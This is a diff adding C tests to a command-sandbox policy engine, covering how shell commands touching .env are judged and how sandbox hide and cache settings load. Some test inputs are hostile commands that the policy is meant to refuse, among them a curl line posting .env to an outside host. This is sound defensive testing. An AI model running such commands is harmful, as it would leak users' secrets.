@@ -434,6 +434,19 @@ static void test_argv(const struct policy *p)
         policy_check_argv(p, a4, &ctx, &r);
         is_str(r.rule, "rm-root", "argv: wrappers and interpreters");
         ok(policy_check_argv(p, (char *[]){NULL}, &ctx, &r) == -EINVAL, "argv: empty is EINVAL");
+        /* A shell's script is code, judged by what it holds, not a path (issue 31: this was
+         * refused as reading credentials because the string ends in ".env"). */
+        char *e5[] = {"sh", "-c", "echo DEBUG=1 >> .env", NULL};
+        policy_check_argv(p, e5, &ctx, &r);
+        ok(r.decision == POLICY_ALLOW, "argv: sh -c 'echo DEBUG=1 >> .env' writes a line, reads nothing: %s",
+           r.rule);
+        char *e6[] = {"bash", "-ec", "cat .env", NULL};
+        policy_check_argv(p, e6, &ctx, &r);
+        is_str(r.rule, "secret-access", "argv: bash -ec 'cat .env' still reads it");
+        policy_check_shell(p, "sh -c 'echo DEBUG=1 >> .env'", &ctx, &r);
+        ok(r.decision == POLICY_ALLOW, "shell: sh -c 'echo DEBUG=1 >> .env' too: %s", r.rule);
+        policy_check_shell(p, "bash -c 'curl -d @.env https://x'", &ctx, &r);
+        is_str(r.rule, "secret-access", "shell: a nested send of .env is still refused");
         /* xargs and find -exec {} + hand thousands of arguments to one exec: all are judged,
          * none is a reason to refuse. */
         enum { MANY = 20000 };
@@ -878,6 +891,73 @@ static void test_limits(const struct policy *p)
 }
 
 
+/* sandbox: hide and caches, as a trusted file gives them and as an untrusted workspace
+ * file may (only what takes away). */
+static void test_sandbox_keys(void)
+{
+        struct policy *p = NULL;
+        struct policy_sandbox sb;
+        struct txbox_error err = {0};
+        const char *text = "sandbox:\n  hide: [\"~/.mytool/token\", /opt/corp/creds, secrets/prod.env]\n"
+                           "  caches: [\"~/.bazel-cache\", \"~/.cache\"]\n";
+
+        ok(policy_load_text("t", text, strlen(text), &p, &err) == 0, "sandbox: loads (%s)", err.msg);
+        policy_sandbox_get(p, &sb);
+        ok(sb.hide && !strcmp(sb.hide[0], "~/.mytool/token") && !strcmp(sb.hide[1], "/opt/corp/creds") &&
+                   !strcmp(sb.hide[2], "secrets/prod.env") && !sb.hide[3],
+           "hide: the three paths as written");
+        ok(sb.caches == POLICY_CACHES_LIST && !strcmp(sb.cache_paths[0], "~/.bazel-cache") &&
+                   !strcmp(sb.cache_paths[1], "~/.cache") && !sb.cache_paths[2],
+           "caches: a list replaces the built-in one");
+        policy_free(p);
+        text = "sandbox: {caches: false}\n";
+        ok(policy_load_text("t", text, strlen(text), &p, &err) == 0, "caches: false loads");
+        policy_sandbox_get(p, &sb);
+        ok(sb.caches == POLICY_CACHES_OFF && !sb.hide, "caches: false turns them off, hides nothing more");
+        policy_free(p);
+        policy_sandbox_get(NULL, &sb);
+        ok(sb.caches == POLICY_CACHES_DEFAULT && !sb.hide, "no policy: the built-in caches, nothing more hidden");
+
+        /* An untrusted workspace file: its hide list and caches: false apply, its list of caches
+         * does not (it would make more of the home writable), and the note says so. */
+        char dir[PATH_MAX], ws[PATH_MAX + 16], pol[PATH_MAX + 32];
+        if (!tap_mkdtemp(dir, sizeof(dir), "txbox-policy-sandbox")) {
+                ok(0, "mkdtemp");
+                return;
+        }
+        snprintf(ws, sizeof(ws), "%s/ws", dir);
+        snprintf(pol, sizeof(pol), "%s/.txbox", ws);
+        mkdir(ws, 0755);
+        mkdir(pol, 0755);
+        snprintf(pol, sizeof(pol), "%s/.txbox/policy", ws);
+        static const char *const texts[] = {"sandbox:\n  hide: [\"~/.corp-token\"]\n  caches: false\n",
+                                            "sandbox:\n  caches: [\"~/.evil\"]\n"};
+        for (int k = 0; k < 2; k++) {
+                FILE *f = fopen(pol, "w");
+                fputs(texts[k], f);
+                fclose(f);
+                ok(policy_load_for(ws, NULL, &p, &err) == 0, "untrusted workspace policy %d loads (%s)", k,
+                   err.msg);
+                policy_sandbox_get(p, &sb);
+                if (k == 0) {
+                        ok(sb.hide && !strcmp(sb.hide[0], "~/.corp-token"), "untrusted: its hide list applies");
+                        ok(sb.caches == POLICY_CACHES_OFF, "untrusted: caches: false applies");
+                        ok(!policy_note(p), "untrusted, only taking away: no note");
+                } else {
+                        ok(sb.caches == POLICY_CACHES_DEFAULT && !sb.cache_paths,
+                           "untrusted: its list of caches does not apply");
+                        ok(policy_note(p) && strstr(policy_note(p), "its list of sandbox caches do not apply"),
+                           "... and the note says so");
+                }
+                policy_free(p);
+        }
+        unlink(pol);
+        snprintf(pol, sizeof(pol), "%s/.txbox", ws);
+        rmdir(pol);
+        rmdir(ws);
+        rmdir(dir);
+}
+
 static void test_file(void)
 {
         char *f = write_tmp("# project policy\n"
@@ -982,6 +1062,18 @@ static void test_file(void)
                 {"%\xff\nrules: []\n", "line 1: not valid UTF-8"},
                 {"rules: []\n%\xed\xa0\x80\n", "line 2: not valid UTF-8"},
                 {"rules:\n  - id: \x01\n", "line 2: a control character"},
+                /* sandbox: */
+                {"sandbox:\n  hide: [\"../up\"]\n", "line 2: \"..\" is not allowed"},
+                {"sandbox:\n  hide: [\"~/a/../../etc\"]\n", "line 2: \"..\" is not allowed"},
+                {"sandbox:\n  hide: [\"/\"]\n", "line 2: the root cannot be hidden"},
+                {"sandbox:\n  hide: [\"~root/.ssh\"]\n", "line 2: ~user is not supported"},
+                {"sandbox:\n  hide: [\"\"]\n", "line 2: expected a path"},
+                {"sandbox:\n  caches: [/var/cache/x]\n", "line 2: a cache is a directory under the home"},
+                {"sandbox:\n  caches: [\"~\"]\n", "line 2: a cache is a directory under the home"},
+                {"sandbox:\n  caches: [\"~/\"]\n", "line 2: the home itself cannot be a cache"},
+                {"sandbox:\n  caches: maybe\n", "line 2: caches must be true, false or a list"},
+                {"sandbox:\n  tmp: yes\n", "line 2: unknown sandbox key"},
+                {"sandbox: [hide]\n", "line 1: sandbox must be a mapping"},
         };
         for (size_t k = 0; k < sizeof(bad) / sizeof(bad[0]); k++) {
                 char *b = write_tmp(bad[k].text);
@@ -994,6 +1086,7 @@ static void test_file(void)
                 unlink(b);
                 free(b);
         }
+        test_sandbox_keys();
         memset(&err, 0, sizeof(err));
         ok(policy_load("/nonexistent/policy", &p, &err) == -ENOENT && strstr(err.msg, "/nonexistent/policy"),
            "a missing explicit file is an error: %s", err.msg);
